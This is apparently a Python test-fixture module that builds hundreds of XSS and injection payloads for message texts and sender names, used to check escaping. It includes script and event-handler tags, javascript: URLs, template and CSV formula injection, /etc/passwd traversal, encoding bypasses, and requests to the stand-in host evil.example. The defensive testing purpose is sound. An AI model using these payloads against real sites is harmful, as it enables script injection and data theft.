"""Messages and senders that try to become more than text: several hundred, made by combining a few parts.

Each calls `hacked()`, opens a dialog, or asks evil.example for something, if any part of it is ever taken for HTML,
script, a style, an address or a template.
"""

import itertools
from html import escape
from urllib.parse import quote

_JS = ("hacked()", "alert(1)", "fetch('//evil.example/')")
_OUT_OF = (
    "",
    '">',
    "'>",
    "</p>",
    "</li></ol>",
    "</title></style></textarea></script>",
    "--><!--",
    "]]>",
    "</template>",
)
_TAGS = (
    "<script>{js}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><use href=//evil.example/x.svg#x></use></svg>",
    "<svg><a xlink:href=javascript:{js}><text y=20>a</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    "<math href=javascript:{js}>a</math>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=javascript:parent.{js}></iframe>",
    "<object data=javascript:{js}></object>",
    "<embed src=//evil.example/x>",
    "<a href=javascript:{js}>a</a>",
    "<a href='data:text/html,<script>{js}</script>'>a</a>",
    "<form action=//evil.example><button>a</button></form>",
    "<button formaction=javascript:{js}>a</button>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}><summary>a</summary></details>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<body onload={js}>",
    "<marquee onstart={js}>a</marquee>",
    "<style>@import '//evil.example/x.css'; * {{ background: url(//evil.example/x) }}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<p style='background:url(//evil.example/x)' onclick={js}>a</p>",
    "<x contenteditable onbeforeinput={js} tabindex=1 autofocus onfocus={js}>a</x>",
    "<li class=message data-id=1 id=announcer><button data-copy='{js}'>a</button></li>",
)
_NO_TAGS = (
    "{{{{ 7|add:'7' }}}}{{% load static %}}{{% include '/etc/passwd' %}}",
    "${{{js}}} #{{{js}}} <%= {js} %> {{{{constructor.constructor('{js}')()}}}}",
    "javascript:{js}",
    "javascript&colon;{js}//",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{js}",
    "%3Cscript%3E{js}%3C/script%3E",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "＜script＞{js}＜/script＞",
    "'-{js}-'",
    '"-{js}-"',
    "`-{js}-`",
    '\\"-{js}//',
    'x" onmouseover="{js}" autofocus onfocus="{js}',
    "x' onmouseover='{js}",
    "</script><script>{js}//",
    "<!--<script>{js}",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version='1.0'?><?php {js} ?>",
    "=cmd|' /C calc'!A0 @SUM(1) {js}",
    "\u202e<script>{js}</script>\u202c",
    "\u2066<img src=x onerror={js}>\u2069",
    "<scr\u200bipt>{js}</scr\u200bipt>",
    "<img\u00a0src=x\u2028onerror={js}>",
    "<img src=x onerror\u0009=\u000a{js}>",
    "<IMG SRC=x OnErRoR={js}>",
    "<img/src=x/onerror={js}>",
    "<<script>{js}//<</script>",
    "<script\n>{js}</script\n>",
    "<a href='java\nscript:{js}'>a</a>",
    "code 123456 <mark><script>{js}</script></mark> 123456",
    "your code is <b>123456</b><img src=x onerror={js}>",
    "../../../etc/passwd?x=<script>{js}</script>#<script>{js}</script>",
    "{{'type': 'message', 'html': '<img src=x onerror={js}>'}}",
    "data: {{}}\n\nid: 9\nevent: message\ndata: <script>{js}</script>",
    "<" * 500 + "script>{js}",
    "<div>" * 300 + "<script>{js}</script>",
    "&" * 300 + "lt;script&gt;{js}",
)


def bodies() -> list[str]:
    """Texts of messages, at least 400 different ones, each up to 1,600 characters as carriers send them."""
    scripts = itertools.cycle(_JS)
    found = [out + tag.format(js=next(scripts)) for tag, out in itertools.product(_TAGS, _OUT_OF)]
    for text in _NO_TAGS:
        found += [text.format(js=js) for js in _JS]
    found += [spelt(f"<img src=x onerror={next(scripts)}>") for spelt in (quote, escape, str.upper, ascii)]
    return list(dict.fromkeys(text[:1600] for text in found))


def senders() -> list[str]:
    """Names of senders, as long as one may be."""
    scripts = itertools.cycle(_JS)
    return list(dict.fromkeys(tag.format(js=next(scripts))[:64] for tag in (*_TAGS, *_NO_TAGS)))
